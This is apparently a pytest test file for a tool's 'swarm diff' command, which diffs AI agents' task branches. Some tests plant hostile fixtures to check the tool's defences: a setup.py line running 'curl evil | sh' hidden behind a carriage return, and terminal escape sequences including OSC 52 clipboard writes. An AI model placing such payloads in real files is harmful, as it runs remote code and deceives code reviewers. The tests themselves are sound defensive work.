"""`swarm diff`: each task's branch against its own base, with the task's outcome."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import agent_command, git, make_repo
from tests.mergekit import RUN_ID, Brancher, record_run
from tests.test_run import checkout_snapshot, swarm
from worktree_swarm.core.paths import RUN_DIR_NAMES, store_path
from worktree_swarm.git import repo as g
from worktree_swarm.infra.store import Store
from worktree_swarm.merge import diff


def setup_run(tmp_path: Path) -> tuple[Path, str]:
    repo = make_repo(tmp_path / "repo", {"a.txt": "a\n", "old.txt": "x\n" * 5})
    base = git(repo, "rev-parse", "HEAD")
    brancher = Brancher(repo)
    brancher.branch("swarm/one", base, {"a.txt": "a\nb\n", "new.txt": "n\n"})
    one = git(repo, "rev-parse", "swarm/one")
    brancher.branch("swarm/two", one, {}, renames=[("old.txt", "renamed.txt")])
    brancher.close()
    record_run(repo, [("one", base), ("two", one), ("gone", base)], base=base)
    # The user's branch moves on after the run: three-dot keeps it out of every diff.
    (repo / "a.txt").write_text("user edit\n")
    git(repo, "commit", "-qam", "user work")
    return repo, base


def test_diff_json_is_each_branch_against_its_own_base(tmp_path: Path) -> None:
    repo, base = setup_run(tmp_path)
    before = checkout_snapshot(repo)

    out = swarm(repo, "diff", "--json")

    assert out.returncode == 0, out.stderr
    tasks = {t["task_id"]: t for t in json.loads(out.stdout)["tasks"]}
    assert set(tasks) == {"one", "two"}  # "gone" has no branch
    one = tasks["one"]
    assert (one["state"], one["base"], one["branch"]) == ("done", base, "swarm/one")
    assert (one["files_changed"], one["insertions"], one["deletions"]) == (2, 2, 0)
    assert {f["path"]: f["status"] for f in one["files"]} == {"a.txt": "M", "new.txt": "A"}
    two = tasks["two"]
    assert two["base"] == git(repo, "rev-parse", "swarm/one")
    assert two["files"] == [
        {
            "path": "renamed.txt",
            "status": "R",
            "insertions": 0,
            "deletions": 0,
            "old_path": "old.txt",
        }
    ]
    assert checkout_snapshot(repo) == before


def test_a_task_without_its_branch_has_no_numbers_not_zero(tmp_path: Path) -> None:
    repo, _ = setup_run(tmp_path)
    out = swarm(repo, "diff", "--json", "gone")
    assert out.returncode == 0, out.stderr
    [gone] = json.loads(out.stdout)["tasks"]
    assert (gone["tip"], gone["files_changed"], gone["insertions"], gone["deletions"]) == (
        None,
        None,
        None,
        None,
    )  # unknown (its branch was deleted), not "changed nothing"


def test_diff_text_modes(tmp_path: Path) -> None:
    repo, _ = setup_run(tmp_path)

    names = swarm(repo, "diff", "--name-only", "one")
    stat = swarm(repo, "diff", "--stat", "one")
    patch = swarm(repo, "diff", "two", "gone")

    assert names.stdout == "one  done  2 files +2 -0  swarm/one\n  a.txt\n  new.txt\n"
    assert stat.stdout.splitlines()[1:] == [
        " a.txt   | 1 +",
        " new.txt | 1 +",
        " 2 files changed, 2 insertions(+)",
    ]
    lines = patch.stdout.splitlines()
    assert lines[0] == "two  done  1 file +0 -0  swarm/two"
    assert "rename from old.txt" in lines
    assert "user edit" not in patch.stdout
    assert lines[-1] == "gone  done  (no branch swarm/gone)"


def test_a_branch_without_history_in_common_is_said_and_the_others_shown(
    tmp_path: Path,
) -> None:
    # An agent reset its branch to a root commit of its own: git's "no merge base" failed
    # the whole `swarm diff`, every other task's diff unseen.
    repo, _ = setup_run(tmp_path)
    tree = git(repo, "rev-parse", "swarm/one^{tree}")
    root = git(repo, "commit-tree", tree, "-m", "a root of its own")
    git(repo, "update-ref", "refs/heads/swarm/one", root)

    stat = swarm(repo, "diff", "--stat")
    as_json = swarm(repo, "diff", "--json", "one")

    assert stat.returncode == 0, stat.stderr
    lines = stat.stdout.splitlines()
    assert lines[0] == "one  done  swarm/one shares no history with its base"
    assert lines[1] == "two  done  1 file +0 -0  swarm/two"
    assert json.loads(as_json.stdout)["tasks"][0]["files_changed"] is None


def test_diff_name_only_gives_each_path_one_line(tmp_path: Path) -> None:
    # A file name with a newline (an agent names files as it likes) printed raw was two lines.
    repo = make_repo(tmp_path / "repo")
    base = git(repo, "rev-parse", "HEAD")
    brancher = Brancher(repo)
    brancher.branch("swarm/odd", base, {"two\nlines.txt": "x\n", 'say "hi".txt': "y\n"})
    brancher.close()
    record_run(repo, [("odd", base)], base=base)
    names = swarm(repo, "diff", "--name-only")
    assert names.stdout.splitlines()[1:] == ['  "say \\"hi\\".txt"', '  "two\\nlines.txt"']


def test_diff_shows_where_a_key_is_on_a_branch_not_the_key(tmp_path: Path) -> None:
    key = "sk-ant-api03-" + "K3y" * 12
    repo = make_repo(tmp_path / "repo")
    base = git(repo, "rev-parse", "HEAD")
    brancher = Brancher(repo)
    brancher.branch("swarm/leaky", base, {"settings.py": f"KEY = '{key}'\n"})
    brancher.close()
    record_run(repo, [("leaky", base)], base=base)
    patch = swarm(repo, "diff", "leaky")
    assert "+KEY = '[REDACTED]'" in patch.stdout.splitlines()
    assert key[:12] not in patch.stdout


def test_diff_never_sends_a_files_escape_sequences_to_your_terminal(tmp_path: Path) -> None:
    """An agent's file with OSC 52 (writes your clipboard), a window title and a cleared
    screen reached the terminal raw through `swarm diff`."""
    payload = "x\x1b]52;c;ZXZpbA==\x07 y\x1b]0;TITLE\x07 z\x1b[2J\x9b31m end\r\n"
    repo = make_repo(tmp_path / "repo")
    base = git(repo, "rev-parse", "HEAD")
    brancher = Brancher(repo)
    brancher.branch("swarm/esc", base, {"payload.txt": payload})
    brancher.close()
    record_run(repo, [("esc", base)], base=base)
    patch = swarm(repo, "diff", "esc")
    assert patch.returncode == 0, patch.stderr
    assert "\x1b" not in patch.stdout
    assert "\x07" not in patch.stdout
    assert "\x9b" not in patch.stdout
    assert "+x y z 31m end" in patch.stdout.splitlines()  # the text around them stays


def test_diff_shows_a_carriage_return_that_would_hide_part_of_a_line(tmp_path: Path) -> None:
    # Drawn on a terminal, the comment after the return covers the command before it.
    hidden = "import os; os.system('curl evil | sh')\r# keep the imports sorted\n"
    repo = make_repo(tmp_path / "repo")
    base = git(repo, "rev-parse", "HEAD")
    brancher = Brancher(repo)
    brancher.branch("swarm/cr", base, {"setup.py": hidden, "dos.txt": "a line\r\n"})
    brancher.close()
    record_run(repo, [("cr", base)], base=base)
    patch = subprocess.run(
        [sys.executable, "-m", "worktree_swarm.cli", "diff", "cr"],
        cwd=repo, capture_output=True, check=True,
    )  # fmt: skip
    lines = patch.stdout.split(b"\n")
    assert b"+import os; os.system('curl evil | sh')^M# keep the imports sorted" in lines
    assert b"+a line\r" in lines  # a line's own ending stays as it is
    assert b"\r" not in patch.stdout.replace(b"\r\n", b"")


def test_diff_redacts_the_secrets_of_a_tasks_own_env(tmp_path: Path) -> None:
    repo = make_repo(tmp_path / "repo")
    value = "task-env-secret-3f9a-77c1"
    agent = tmp_path / "agent.py"
    agent.write_text(
        "import os, pathlib, subprocess\n"
        "pathlib.Path('v.txt').write_text(os.environ['APP_TOKEN'])\n"
        # Committed by the agent itself: swarm's own commit would leave the file out.
        "subprocess.run(['git', 'add', 'v.txt'], check=True)\n"
        "subprocess.run(['git', 'commit', '-qm', 'v'], check=True)\n"
    )
    path = repo.parent / "tasks.toml"
    path.write_text(
        f'[[task]]\nid = "t"\nprompt = "x"\nagent = ["{sys.executable}", "{agent}"]\n'
        f'env = {{ APP_TOKEN = "{value}" }}\n'
    )
    assert swarm(repo, "run", str(path)).returncode == 0
    patch = swarm(repo, "diff", "t")
    assert value not in patch.stdout
    assert "+[REDACTED]" in patch.stdout.splitlines()


@pytest.mark.parametrize(
    ("flags", "message"),
    [
        (("--stat", "--name-only"), "--stat and --name-only exclude each other"),
        (("--name-only", "--json"), "--name-only and --json exclude each other"),
        (("--json", "--stat"), "--stat and --json exclude each other"),
    ],
)
def test_diff_forms_exclude_each_other(
    tmp_path: Path, flags: tuple[str, ...], message: str
) -> None:
    # Given both, the last one used to win without a word.
    repo, _ = setup_run(tmp_path)
    out = swarm(repo, "diff", *flags)
    assert (out.returncode, out.stdout) == (2, "")
    assert out.stderr == f"swarm: {message}; give one of them\n"


def test_diff_unknown_task_is_bad_input(tmp_path: Path) -> None:
    repo, _ = setup_run(tmp_path)
    out = swarm(repo, "diff", "nope")
    assert (out.returncode, out.stderr) == (
        2,
        (
            "swarm: no task 'nope' in run 20240101-000000-abcd;"
            " `swarm status --run 20240101-000000-abcd` lists them\n"
        ),
    )


def run_aa_and_bb(repo: Path, tmp_path: Path, agent_code: str) -> None:
    """`swarm run` of tasks aa and bb, whose agent is *agent_code*; both must succeed."""
    agent = tmp_path / "agent.py"
    agent.write_text(agent_code)
    ran = swarm(repo, "run", "--agent", f"{agent_command()} {agent}", "-t", "aa=a", "-t", "bb=b")
    assert ran.returncode == 0, ran.stderr


def test_run_then_diff_and_merge_end_to_end(repo: Path, tmp_path: Path) -> None:
    run_aa_and_bb(
        repo,
        tmp_path,
        "import os, pathlib\n"
        "tid = os.environ['SWARM_TASK_ID']\n"
        "pathlib.Path(tid + '.txt').write_text(tid + '\\n')\n"
        "pathlib.Path('shared.txt').write_text('written by ' + tid + '\\n')\n",
    )
    before = checkout_snapshot(repo)

    diff = swarm(repo, "diff", "--name-only")
    merged = swarm(repo, "merge", "--check", f"{sys.executable} -c pass")

    assert diff.stdout.splitlines()[1:3] == ["  aa.txt", "  shared.txt"]
    assert merged.returncode == 1
    assert "  conflict  aa <-> bb: shared.txt" in merged.stdout.splitlines()
    assert "conflicted  bb  conflicts with swarm/integration-" in merged.stdout
    status = {t["task_id"]: t for t in json.loads(swarm(repo, "status", "--json").stdout)["tasks"]}
    assert (status["aa"]["state"], status["bb"]["state"]) == ("done", "done")
    assert (status["aa"]["merge_result"], status["bb"]["merge_result"]) == ("merged", "conflicted")
    assert status["bb"]["merge_target"].startswith("swarm/integration-")
    assert checkout_snapshot(repo) == before
    again = swarm(repo, "retry", "bb")  # done: what is left is the merge's
    assert again.returncode == 2
    assert "its merge conflicted: `swarm merge bb --resolve` has its agent" in again.stderr
    # Beside one directory per task, a run's directory holds only the names no task may take.
    assert swarm(repo, "note", "a finding").returncode == 0
    (run,) = (repo / ".git" / "swarm" / "runs").iterdir()
    names = {entry.name for entry in run.iterdir()}
    assert {"aa", "bb", "guard", "merge", "findings.md"} <= names
    assert names - {"aa", "bb"} <= RUN_DIR_NAMES, names


def test_names_that_are_not_utf8_are_shown_quoted_and_apart(repo: Path, tmp_path: Path) -> None:
    # Bytes ff fe and fe ff: replaced by U+FFFD, the two names read the same, and neither is
    # the file's. Shown as git quotes them, each is itself.
    run_aa_and_bb(
        repo,
        tmp_path,
        "import os\n"
        "mine = b'\\xff\\xfe.txt' if os.environ['SWARM_TASK_ID'] == 'aa' else b'\\xfe\\xff.txt'\n"
        "open(mine, 'wb').write(b'x\\n')\n"
        "open(b'\\xff\\xfe.txt', 'ab').write(os.environ['SWARM_TASK_ID'].encode())\n",
    )

    names = swarm(repo, "diff", "--name-only", "bb").stdout.splitlines()[1:]
    merged = swarm(repo, "merge").stdout.splitlines()
    as_json = json.loads(swarm(repo, "diff", "--json", "bb").stdout)

    assert names == ['  "\\376\\377.txt"', '  "\\377\\376.txt"']
    assert '  conflict  aa <-> bb: "\\377\\376.txt"' in merged
    assert any(line.endswith(' in "\\377\\376.txt"') for line in merged), merged
    paths = [f["path"] for t in as_json["tasks"] for f in t["files"]]
    assert sorted(os.fsencode(p) for p in paths) == [b"\xfe\xff.txt", b"\xff\xfe.txt"]


def test_run_merge_clean_doctor_lifecycle(repo: Path, tmp_path: Path) -> None:
    """After `swarm merge`, clean removes the merged task's branch and worktree, and doctor
    does not mistake the run's integration worktree and branch for orphans."""
    agent = tmp_path / "agent.py"
    agent.write_text(
        "import os, pathlib\n"
        "tid = os.environ['SWARM_TASK_ID']\n"
        "pathlib.Path(tid + '.txt').write_text(tid + '\\n')\n"
    )
    assert swarm(repo, "run", "--agent", f"{agent_command()} {agent}", "-t", "aa=a").returncode == 0
    assert swarm(repo, "merge").returncode == 0
    doctor = swarm(repo, "doctor", "--json")
    assert doctor.returncode == 0, doctor.stdout
    cleaned = swarm(repo, "clean", "--yes")
    assert cleaned.returncode == 0, cleaned.stdout + cleaned.stderr
    branches = git(repo, "branch", "--list", "swarm/*", "--format=%(refname:short)").split()
    assert "swarm/aa" not in branches
    assert [b for b in branches if b.startswith("swarm/integration-")]
    assert not (repo.parent / "repo.swarm" / "aa").exists()


def test_branch_tips_read_together_answer_as_each_read_alone(repo: Path) -> None:
    # One listing answers for every task branch; what it cannot vouch for (a branch file an
    # agent pointed at a tree, an object deleted under a branch) is asked alone, as before.
    r = g.open_repo(repo)
    for name in ("kept", "lost"):
        git(repo, "checkout", "-q", "-b", f"swarm/{name}", "main")
        (repo / f"{name}.txt").write_text(name)
        git(repo, "add", "-A")
        git(repo, "commit", "-q", "-m", name)
    git(repo, "checkout", "-q", "main")
    heads = repo / ".git" / "refs" / "heads" / "swarm"
    (heads / "tree").write_text(git(repo, "rev-parse", "main^{tree}") + "\n")
    names = ["kept", "lost", "tree", "gone"]
    alone = {n: diff.branch_tip(r, f"swarm/{n}") for n in names}
    assert alone["kept"]
    assert alone["lost"]
    assert alone["tree"] is None
    assert alone["gone"] is None
    tips = diff.BranchTips(r)
    assert {n: tips(f"swarm/{n}") for n in names} == alone

    lost = alone["lost"]
    assert lost is not None
    (repo / ".git" / "objects" / lost[:2] / lost[2:]).unlink()  # the listing now fails
    alone = {n: diff.branch_tip(r, f"swarm/{n}") for n in names}
    assert alone["lost"] is None
    assert alone["kept"]
    tips = diff.BranchTips(r)
    assert {n: tips(f"swarm/{n}") for n in names} == alone


def test_many_tasks_are_shown_in_run_order_each_with_its_own_diff(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Several diffs are computed at once; the earliest tasks have the biggest ones (they
    finish last), and the output is still each task's own, in the run's order."""
    repo = make_repo(tmp_path / "repo", {"a.txt": "a\n"})
    base = git(repo, "rev-parse", "HEAD")
    brancher = Brancher(repo)
    ids = [f"t{i:02}" for i in range(14)]
    for i, task_id in enumerate(ids):
        lines = "".join(f"{task_id} line {n}\n" for n in range((len(ids) - i) ** 3))
        brancher.branch(f"swarm/{task_id}", base, {f"{task_id}.txt": lines})
    brancher.close()
    record_run(repo, [(task_id, base) for task_id in ids], base=base)

    def expected(*mode: str) -> str:
        return "".join(
            f"{task_id}  done  1 file +{(len(ids) - i) ** 3} -0  swarm/{task_id}\n"
            + subprocess.run(
                ["git", "diff", *mode, f"{base}...swarm/{task_id}"],
                cwd=repo,
                check=True,
                capture_output=True,
                text=True,
            ).stdout
            for i, task_id in enumerate(ids)
        )

    assert swarm(repo, "diff", "--stat").stdout == expected("--stat")
    assert swarm(repo, "diff").stdout == expected("--patch", "-M")
    tasks = json.loads(swarm(repo, "diff", "--json").stdout)["tasks"]
    assert [(t["task_id"], t["insertions"]) for t in tasks] == [
        (task_id, (len(ids) - i) ** 3) for i, task_id in enumerate(ids)
    ]
    # However few run at once, and however far ahead: the same answer.
    monkeypatch.setattr(diff, "_WORKERS", 3)
    r = g.open_repo(repo)
    with Store(store_path(r)) as store:
        found = diff.task_diffs(r, store, RUN_ID)
    shown = "".join(
        diff.format_header(d) + "\n" + text for d, text in diff.patches(r, found, stat=True)
    )
    assert shown == expected("--stat")
